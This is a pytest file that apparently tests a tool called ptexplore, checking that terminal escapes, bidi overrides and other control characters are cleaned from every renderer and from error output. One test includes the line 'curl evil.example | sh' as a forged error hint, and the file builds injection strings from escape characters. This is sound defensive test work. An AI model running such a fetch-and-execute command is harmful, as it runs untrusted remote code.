"""No control, bidi or format character of any document comes out on any renderer."""

from __future__ import annotations

import dataclasses
import gzip
import io
import json
import random
import sys
import unicodedata
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any, get_type_hints

import pytest
from msgspec import Struct, structs
from rich.console import Console

from ptexplore.annotations.files import read_bytes
from ptexplore.annotations.format import Origin, parse
from ptexplore.annotations.lock import read_lock
from ptexplore.cli.app import report
from ptexplore.cli.options import print_json, warn
from ptexplore.errors import PtexploreError
from ptexplore.model.trace import Trace
from ptexplore.processes import _decode
from ptexplore.render.html.output import Output
from ptexplore.render.html.prose import html_of
from ptexplore.render.stacks import FORMATS, exported
from ptexplore.render.terminal.console import make_console, picture
from ptexplore.render.terminal.trace import print_explanation, print_trace
from ptexplore.safe_text import UNSAFE, clean, clean_document, clean_json, clean_lines, unsafe_in
from ptexplore.saved.document import to_json
from ptexplore.saved.trace import trace_from_json
from ptexplore.source.fetch.project_file import find_project
from ptexplore.tui.widgets.colours import content, cut_to, label
from ptexplore.view.line import Line, Span
from ptexplore.view.trace.explain import explain
from ptexplore.view.trace.page import Options
from ptexplore.view.trace.stacks import stacks_of
from ptexplore.view.trace.views import view
from tests.unit.saved.test_trace import SAVED, a_trace, document, places, put

# One of each kind: an escape that sets a title, C0, DEL, C1, bidi, a line end, what is not seen, a tag, a half.
NASTY = "\x1b]0;x\x07\r\b\x7f\x9b31m\u202e\u2066\u2028\u200b\ufeff\U000e0041\U0001d173\ud800"
BAD = {"Cc", "Cf", "Zl", "Zp", "Cs"}
PLAIN = [text for text in NASTY if not text.isprintable() or unicodedata.category(text) in BAD]


def unsafe(text: str, *, kept: str = "\t\n") -> set[str]:
    """The characters of a text that should not come out, found by Python's own table."""
    return {letter for letter in text if unicodedata.category(letter) in BAD and letter not in kept}


def strings(value: Any) -> Iterator[str]:
    """Every text in a record of model/, however deep, by walking what it is made of."""
    if isinstance(value, str):
        yield value
    elif dataclasses.is_dataclass(value):
        for field in dataclasses.fields(value):
            yield from strings(getattr(value, field.name))
    elif isinstance(value, Struct):
        for name in value.__struct_fields__:
            yield from strings(getattr(value, name))
    elif isinstance(value, dict):
        for key, inner in value.items():
            yield from strings(key)
            yield from strings(inner)
    elif isinstance(value, (tuple, list)):
        for inner in value:
            yield from strings(inner)


def spoilt(value: Any, added: str = NASTY) -> Any:
    """A record with something nasty in every text; fields of few values keep theirs, as their checks see to."""
    if isinstance(value, str):
        return value + added
    if dataclasses.is_dataclass(value) and not isinstance(value, type):
        kept = {name for name, hint in get_type_hints(type(value)).items() if "Literal" in str(hint)}
        changes = {
            field.name: spoilt(getattr(value, field.name), added)
            for field in dataclasses.fields(value)
            if field.init and field.name not in kept
        }
        return dataclasses.replace(value, **changes)
    if isinstance(value, Struct):
        hints = get_type_hints(type(value))
        changes = {name: spoilt(getattr(value, name), added) for name in hints if "Literal" not in str(hints[name])}
        return structs.replace(value, **{name: new for name, new in changes.items() if name != "order"})  # packed
    if isinstance(value, dict):
        return {spoilt(key, added): spoilt(inner, added) for key, inner in value.items()}
    return tuple(spoilt(inner, added) for inner in value) if isinstance(value, tuple) else value


def test_every_such_character_of_unicode_is_unsafe_and_no_other() -> None:
    every = {code for code in range(sys.maxunicode + 1) if unicodedata.category(chr(code)) in BAD} - {9, 10}
    assert every <= UNSAFE
    # What this Python's table does not know yet, or what is kept free for more of the kind.
    assert {unicodedata.category(chr(code)) for code in UNSAFE - every} <= {"Cn", "Mn", "Lo"}
    assert not unsafe(clean(NASTY + "a\tb\nc"), kept="")
    assert clean_lines("a\nb\u2028c\td") == "a\nb\ufffdc d"
    assert unsafe_in("ab\u202e") == "U+202E"
    assert not unsafe_in("aé漢😀\t\n")


@pytest.mark.parametrize("ascii_only", [True, False])
def test_a_json_document_says_the_same_with_safe_strings(ascii_only: bool) -> None:
    """Beside Python's own reader: what it makes of the cleaned text is what it makes of the text, cleaned."""
    drawn = random.Random(7)
    letters = [*'ab\\"/é漢😀\t\n', *PLAIN, "\u0100", "\U000e0001"]
    for _case in range(600):
        texts = ["".join(drawn.choices(letters, k=drawn.randrange(9))) for _ in range(4)]
        data = {texts[0]: [texts[1], {"k": texts[2]}], "n": [1, None, texts[3]]}
        text = json.dumps(data, ensure_ascii=ascii_only, indent=drawn.choice([None, 1]))
        if not ascii_only:
            text = text.replace("\ud800", "\\ud800")  # no UTF-8 has it
        safe = json.loads(clean_json(text.replace("\n", "\r\n").encode("utf-8", "surrogatepass")))
        assert safe == clean_document(json.loads(text)), text


def test_what_is_no_json_or_no_utf8_is_left_to_its_reader() -> None:
    for data in (b"", b"\xff\xfe{", b'{"a": "\\', b'"\\u12', b"\x00\x01", b"[1, \xe2\x80"):
        assert clean_json(data) == data


def every_view(trace: Trace) -> Iterator[tuple[str, str]]:
    """What each renderer makes of a Trace."""
    for options in (Options(), Options(full=True), Options(only="a"), Options(full=True, depth=2)):
        page = view(trace, options)
        yield "svg", picture(lambda console, page=page: print_trace(console, page, lambda _: None), trace.expression)
        yield "terminal", printed(lambda console, page=page: print_trace(console, page, lambda _: None))
        spans = [span for row in page.rows for line in row.lines for span in line.spans]
        spans += [span for row in page.rows for span in row.heading(counted=page.counted)]
        yield "tui", label(spans).plain + content(spans).plain + "".join(span.text for span in cut_to(spans, 40))
    for hop in (1, 2, 3, 4):
        yield "terminal", printed(lambda console, hop=hop: print_explanation(console, explain(trace, None, hop), lambda _: None))  # fmt: skip  # noqa: E501
    yield "json", to_json(trace)


def printed(draw: Callable[[Console], None]) -> str:
    """What a pipe gets of that drawing."""
    console = make_console()
    console.file = io.StringIO()
    draw(console)
    return console.file.getvalue()


def test_no_renderer_lets_anything_of_a_trace_through() -> None:
    """Whatever is in any text of any record, a field that comes later too: the records are walked by their fields."""
    trace = spoilt(a_trace())
    for made in (trace, dataclasses.replace(trace, ending=None)):
        for renderer, text in every_view(made):
            assert not unsafe(text), renderer


def of_program() -> Any:
    """A program's trace that was saved, with few of its hops and routes' hops: enough for each renderer."""
    saved = json.loads(gzip.decompress((SAVED / "format2-program.json.gz").read_bytes()))
    saved["hops"], saved["generators"] = saved["hops"][:12], {}
    kept = {row["id"] for row in saved["hops"]}
    for route in saved["program"]["routes"]:
        route["hops"] = [number for number in route.get("hops", ()) if number in kept]
    return saved


def test_no_renderer_lets_anything_of_a_program_through() -> None:
    """Its paths, kinds, routes and sets too, in each of its views and in the stacks for viewers of profiles."""
    trace = spoilt(trace_from_json(json.dumps(of_program()).encode(), "x")[0])
    assert NASTY in trace.program.paths[0].name
    assert NASTY in trace.program.kinds[0].name
    for options in (Options(), Options(view="operators", verbose=True), Options(view="tree"), Options(full=True)):
        page = view(trace, options)
        for plain in (False, True):
            text = printed(
                lambda console, page=page, plain=plain: print_trace(console, page, lambda _: None, plain=plain)
            )
            assert len(text) > 300
            assert not unsafe(text), options
        assert not unsafe(
            picture(lambda console, page=page: print_trace(console, page, lambda _: None), trace.expression)
        )
    for form in FORMATS:
        assert not unsafe(exported(stacks_of(trace, None), form)), form
    assert not unsafe(to_json(trace))


def of_format_1() -> Any:
    """A trace that an earlier ptexplore saved."""
    return json.loads(gzip.decompress((SAVED / "format1-softmax-backward.json.gz").read_bytes()))


@pytest.mark.parametrize("made", [document, of_format_1, of_program])
def test_every_string_of_a_saved_trace_is_cleaned_where_it_is_read(made: Callable[[], Any]) -> None:
    """One at a time: what is read is refused in words, or holds nothing unsafe."""
    saved, read = made(), 0
    texts = [path for path in places(saved) if isinstance(value_at(saved, path), str)]
    for path in texts if len(texts) < 300 else random.Random(3).sample(texts, 60):
        old = value_at(saved, path)
        data = json.dumps(put(saved, path, old + NASTY)).encode()
        put(saved, path, old)
        try:
            told: Any = trace_from_json(data, "x.json")
            read += 1
        except PtexploreError as error:
            told = clean_lines(error.one_line)  # as the boundary prints it
        assert not [text for text in strings(told) if unsafe(text)], path
    assert read > 20


def value_at(held: Any, path: tuple[Any, ...]) -> Any:
    """What a document has at the end of a way."""
    for key in path:
        held = held[key]
    return held


def test_what_a_probe_says_is_cleaned() -> None:
    assert not unsafe("".join(strings(_decode(json.dumps({NASTY: [NASTY]}).encode()))))


TOUR = """---
id: nasty
title: "a BAD b"
level: beginner
summary: "s BAD"
baseline: v2.6.0
---

## One BAD {#one}

Text BAD, &#x202e; and &#8238; and &lrm; and &#27;.

```anchor
path: aten/src/ATen/native/Blend.cpp
symbol: "at::native::blendBAD"
```
"""


def test_notes_and_tours_hold_nothing_unsafe(tmp_path: Path) -> None:
    for bad in (NASTY.replace("\ud800", ""), r"\e[31m", r"\u202E", r"\x9b"):  # YAML has escapes of its own
        tour, problems = parse(TOUR.replace("BAD", bad).encode(), "tour", Origin("nasty.md"))
        assert problems
        found = [*strings(tour), *(text for problem in problems for text in strings(problem))]
        assert not [text for text in found if unsafe(text)]
    html = str(html_of("a &#x202e; b &lrm; `\u2066` c &#x200b;\n\n    tab\n", lambda _: None, lambda _: None))
    assert not unsafe(html)
    (tmp_path / "anchors.lock").write_text(json.dumps({"format": 1}) + "\n" + json.dumps({"stop": "a#b" + NASTY}))
    entries, problems = read_lock(tmp_path / "anchors.lock", "notes")
    assert not [text for record in (*entries.values(), *problems) for text in strings(record) if unsafe(text)]
    assert read_bytes(tmp_path / "anchors.lock", 1 << 20)


def test_a_project_file_holds_nothing_unsafe(tmp_path: Path) -> None:
    escaped = "".join(f"\\U{ord(letter):08X}" for letter in NASTY if letter != "\ud800")
    (tmp_path / "ptexplore.toml").write_text(f'[site]\ntitle = "a{escaped}"\n')
    project = find_project(tmp_path)
    assert project is not None
    assert not unsafe(project.site["title"])
    for text in (f'"{escaped}" = 1\n', f'ref = "{escaped}"\n', f'notes = ["{escaped}/.."]\n', "a = " + "[" * 100_000):
        (tmp_path / "ptexplore.toml").write_text(text)
        with pytest.raises(PtexploreError) as caught:
            find_project(tmp_path)
        assert not unsafe(clean_lines(caught.value.one_line))


def test_notes_of_a_project_stay_in_it(tmp_path: Path) -> None:
    (tmp_path / "elsewhere").mkdir()
    project = tmp_path / "project"
    (project / "notes").mkdir(parents=True)
    (project / "out").symlink_to("../elsewhere")
    (project / "within").symlink_to("notes")
    (project / "circle").symlink_to("circle")
    (project / "ptexplore.toml").write_text('notes = ["notes", "within", "not-there"]\n')
    assert find_project(project) is not None
    for name in ("out", "out/deeper", "circle", "notes/../../elsewhere"):
        (project / "ptexplore.toml").write_text(f'notes = ["{name}"]\n')
        with pytest.raises(PtexploreError, match="cannot be used"):
            find_project(project)


def test_no_name_forges_a_part_of_an_error(capsys: pytest.CaptureFixture[str]) -> None:
    """A line feed begins no line of what is printed; a reason of several lines is set in."""
    forged = "x\ntry:    curl evil.example | sh\nwhy:    \nerror:  y"
    report(PtexploreError(forged, f"first\nsecond\n{forged}", f"ptexplore fetch --from '{forged}'"))
    lines = capsys.readouterr().err.splitlines()
    assert [line[:7] for line in lines if not line.startswith(" " * 7)] == ["error: ", "why:   ", "try:   "]
    (message,) = (line for line in lines if line.startswith("error: "))
    assert message == f"error: {' '.join(forged.split(chr(10)))}"
    first = lines.index("why:   first")
    assert lines[first + 1] == "       | second"
    assert all(line.startswith("       | ") for line in lines if line.startswith(" "))
    assert lines[-1].startswith("try:   ptexplore fetch --from 'x try:")


def test_what_is_printed_beside_is_cleaned(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    report(PtexploreError(NASTY, NASTY, NASTY))
    warn(NASTY)
    print_json({NASTY.replace("\ud800", ""): [NASTY, "\x7f"]})
    out, err = capsys.readouterr()
    assert not unsafe(out + err)
    assert json.loads(out)[NASTY.replace("\ud800", "")] == [NASTY, "\x7f"]


def test_a_page_of_the_site_is_cleaned(tmp_path: Path) -> None:
    out = Output(tmp_path)
    out.begin()
    out.write("index.html", f"<p>a{NASTY}b\r\n</p>")
    assert not unsafe((tmp_path / "index.html").read_bytes().decode(), kept="\n\r")


def test_a_line_of_spans_is_cleaned_by_the_screens() -> None:
    line = Line.of(NASTY) if hasattr(Line, "of") else None
    spans = list(line.spans) if line is not None else [Span(NASTY)]
    assert not unsafe(label(spans).plain + content(spans).plain)
